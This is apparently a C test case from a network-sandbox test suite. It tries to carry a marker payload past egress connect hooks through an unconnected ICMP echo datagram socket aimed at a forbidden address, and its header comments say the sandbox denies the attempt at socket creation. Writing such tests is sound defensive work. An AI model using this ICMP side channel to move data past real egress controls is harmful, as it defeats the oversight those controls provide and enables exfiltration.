// attack: an unconnected ICMP "ping" datagram socket carries data past the connect hooks (egc enforce, no seccomp)
// mode: enforce
// control: escapes
// denial: sock_create socket-not-tcp-or-udp
#include "support/attack.h"
#include <netinet/ip_icmp.h>

int main(void)
{
	struct sockaddr_storage forbidden;
	socklen_t len = parse_addr(need_env("FORBIDDEN_UDP"), &forbidden);
	((struct sockaddr_in *)&forbidden)->sin_port = 0;
	int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	if (fd < 0) {
		attempt("socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP)", 0, errno);
		return verdict();
	}
	unsigned char packet[64] = {0};
	packet[0] = ICMP_ECHO;
	memcpy(packet + 8, MARKER, sizeof(MARKER) - 1 < 56 ? sizeof(MARKER) - 1 : 56);
	ssize_t n = sendto(fd, packet, sizeof(packet), 0, (struct sockaddr *)&forbidden, len);
	attempt("ICMP echo with data to a forbidden address", n >= 0, errno);
	return verdict();
}
